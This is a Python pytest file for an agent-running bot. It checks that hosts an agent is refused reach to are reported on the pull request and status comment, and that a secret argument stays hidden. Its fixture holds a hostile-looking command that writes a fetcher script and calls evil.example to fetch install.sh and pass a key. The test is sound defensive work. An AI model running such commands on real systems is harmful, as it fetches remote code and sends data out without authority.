"""What an agent asks for and is not let reach is told on the pull request, with who asked."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest

from bot.runs.transitions import State
from tests.support.world import World, make_world

ASK = "import sys, urllib.request as u; u.urlopen(sys.argv[-1])"
AGENT = (
    f"cat > /dev/null; echo '{ASK}' > ~/fetch.py; "
    "python3 ~/fetch.py http://evil.example/install.sh; "
    "python3 ~/fetch.py --key hush https://evil.example/again; echo done > notes.txt"
)


@pytest.fixture
async def world(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[World]:
    folder = tmp_path_factory.mktemp("reach")
    async with make_world(folder, agent_hosts=("packages.example.org",)) as made:
        yield made


async def test_a_host_that_was_refused_is_on_the_pull_request_with_the_command_that_tried(
    world: World,
) -> None:
    repo = await world.repository({"agents": {"writer": {"command": AGENT}}, "checks": []})
    issue, run = await repo.started()
    assert run.state is State.AWAITING_REVIEW
    (status,) = await repo.status_comments(issue)
    for text in (status, (await repo.pull(run.pull_request or 0))["body"]):
        assert "The agent was not let reach:" in text
        assert [line for line in text.splitlines() if line.startswith("- `evil.example")] == [
            "- `evil.example:80`, wanted by `python3 fetch.py http://evil.example/install.sh`",
            "- `evil.example:443`, wanted by `python3 fetch.py`",
        ]
        assert "hush" not in text
